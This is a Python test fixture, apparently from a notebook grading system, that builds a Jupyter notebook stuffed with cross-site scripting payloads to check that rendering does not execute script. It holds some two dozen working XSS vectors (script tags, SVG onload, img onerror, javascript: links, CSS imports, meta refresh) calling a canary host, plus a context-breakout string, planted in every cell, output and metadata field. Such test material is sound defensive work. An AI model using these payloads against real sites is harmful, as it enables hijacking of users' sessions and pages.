"""Script in all the shapes in which a notebook may carry it; what runs says its name at CANARY, or to its window."""

import json
from collections.abc import Mapping
from typing import Any

from tests.curricula.essays_here import DISGUISED, PROGRAM, written

CANARY = "http://canary.invalid/"


def _run(name: str) -> str:
    return f"top.pwned='{name}',new Image().src='{CANARY}{name}'"


def _payloads() -> dict[str, str]:
    forms = {
        "script": "<script>{run}</script>",
        "script-elsewhere": "<script src={at}></script>",
        "svg-onload": '<svg onload="{run}"></svg>',
        "svg-script": "<svg><script>{run}</script></svg>",
        "svg-link": '<svg><a href="javascript:void({run})"><text class=smuggled>x</text></a></svg>',
        "img-onerror": '<img src=x: onerror="{run}">',
        "img-elsewhere": "<img src={at}>",
        "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe>',
        "iframe-script": '<iframe src="javascript:{run}"></iframe>',
        "iframe-elsewhere": "<iframe src={at}></iframe>",
        "object": "<object data={at}></object>",
        "embed": "<embed src={at}>",
        "link": '<a class=smuggled href="javascript:void({run})">x</a>',
        "form": "<form action={at}><button class=smuggled>x</button></form>",
        "button": '<form><button class=smuggled formaction="javascript:void({run})">x</button></form>',
        "css-url": "<style>h1,p{{background:url({at})}}</style><p>x",
        "css-import": "<style>@import '{at}';</style>",
        "css-inline": '<p style="background:url({at})">x</p>',
        "stylesheet": "<link rel=stylesheet href={at}>",
        "media": '<video src=x: onerror="{run}"></video>',
        "toggle": '<details open ontoggle="{run}">x</details>',
        "focus": '<input autofocus onfocus="{run}">',
        "base": "<base href={at}/><img src=x.png>",
        "refresh": '<meta http-equiv=refresh content="0;url={at}">',
    }
    return {name: form.format(run=_run(name), at=CANARY + name) for name, form in forms.items()}


PAYLOADS: Mapping[str, str] = _payloads()
# Ends whatever an author of a template may have put text into.
OUT = "\"'></title></textarea></pre></style></script></template>-->"
PLACES = {
    "text": "{}",
    "title": "<title>{}</title>",
    "textarea": "<textarea>{}</textarea>",
    "value": "<input value='{}'>",
    "attribute": '<p title="{}">',
    "comment": "<!--{}-->",
}
ALL = OUT + "".join(PAYLOADS.values())


def some(length: int) -> str:
    """As many of them as there is room for."""
    text = OUT
    for one in PAYLOADS.values():
        text += one if len(text + one) <= length else ""
    return text


def hostile(user: str) -> dict[str, Any]:
    """A notebook with an essay and a program to be graded, and script wherever a notebook has room for text."""
    programs = {"student1": PROGRAM, "student2": DISGUISED}
    program = f"# {ALL}\n{programs.get(user, '')}"
    notebook = written(f"{ALL}\n\n[x](javascript:{_run('markdown')})", program)
    rich = {"text/html": ALL, "image/svg+xml": f"<svg>{ALL}</svg>", "application/javascript": _run("output")}
    shown = {"output_type": "display_data", "data": rich | {"text/latex": ALL, "text/markdown": ALL}, "metadata": {}}
    broken = {"output_type": "error", "ename": ALL, "evalue": ALL, "traceback": [ALL]}
    printed = {"output_type": "stream", "name": "stdout", "text": ALL}
    cells = [
        {"cell_type": "raw", "id": "raw", "metadata": {"format": "text/html"}, "source": ALL},
        {"cell_type": "markdown", "id": "m", "metadata": {}, "source": ALL, "attachments": {ALL: {"text/html": ALL}}},
        {
            "cell_type": "code",
            "id": "shown",
            "metadata": {"tags": [OUT + PAYLOADS["script-elsewhere"]], "nbgrader": {"grade_id": ALL, "solution": True}},
            "execution_count": 1,
            "source": ALL,
            "outputs": [shown, broken, printed],
        },
    ]
    about = {"title": ALL, "authors": [{"name": ALL}], "language_info": {"name": ALL}}
    kernel = {"kernelspec": {"name": ALL, "display_name": ALL, "language": ALL}}
    return {**notebook, "cells": [*notebook["cells"], *cells], "metadata": about | kernel}


def handed_in(user: str) -> bytes:
    """The same as bytes."""
    return json.dumps(hostile(user)).encode()
